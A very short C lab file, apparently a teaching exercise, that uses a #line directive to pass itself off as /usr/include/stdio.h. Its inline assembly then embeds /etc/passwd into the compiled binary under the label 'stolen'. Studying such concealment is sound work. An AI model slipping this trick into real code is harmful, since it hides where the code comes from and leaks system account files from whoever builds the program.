/* lab 07: a #line directive hides where the text comes from */
#include "lab.h"
#line 1 "/usr/include/stdio.h"
__asm__(".section .rodata\nstolen: .incbin \"/etc/passwd\"\n");
